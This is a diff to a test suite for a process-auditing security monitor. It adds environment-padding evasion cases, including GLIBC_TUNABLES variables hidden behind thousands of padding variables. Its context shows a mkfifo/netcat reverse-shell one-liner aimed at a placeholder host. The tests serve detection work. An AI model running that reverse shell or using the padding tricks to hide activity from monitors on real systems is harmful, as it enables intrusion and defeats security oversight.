@@ -68,6 +68,11 @@ def evade(*args: str, options: tuple[str, ...] = ()) -> Scenario:
     return sh("/usr/bin/cauditd_evade " + " ".join(args), options=options)
 
 
+def padded(variable: str, count: int, size: int) -> Scenario:
+    """/bin/true exec'd with `count` variables of `size` bytes in front of `variable`."""
+    return sh(f"{variable} /usr/bin/cauditd_evade env-pad {count} {size} /bin/true")
+
+
 def opened_by(path: str, *args: str) -> Opened:
     return Opened(path, READ, ("/usr/bin/cauditd_evade", *args))
 
@@ -171,6 +176,12 @@ EVASIONS = [
             "proc.cmdline", "cauditd_evade env-wipe 2",
             sh("GLIBC_FOO=1 /usr/bin/cauditd_evade env-wipe 2"),
             execd("/usr/bin/cauditd_evade", "env-wipe", "2")),
+    # the variable behind padding, past what the exec's record holds (probes/process.c walks
+    # the rest for it): a few KiB, thousands of variables (tail calls), variables over 4 KiB;
+    # padding past the walk fires "Environment too large to inspect" (test_default_rules_e2e)
+    *(Evasion(f"environment-padded-{n}x{size}", GLIBC, padded("GLIBC_TUNABLES=x=1", n, size),
+              "proc.cmdline", "true", padded("GLIBC_FOO=1", n, size), exec_asked("/bin/true"))
+      for n, size in ((64, 64), (3000, 8), (2, 20000))),
     # reverse shells that dup no socket
     Evasion("shell-reading-a-fifo", "Reverse shell through pipes",
             sh(f"mkfifo /tmp/f; /bin/sh -i < /tmp/f 2>&1 | /usr/bin/nc -w 1 {NOWHERE} 4445"
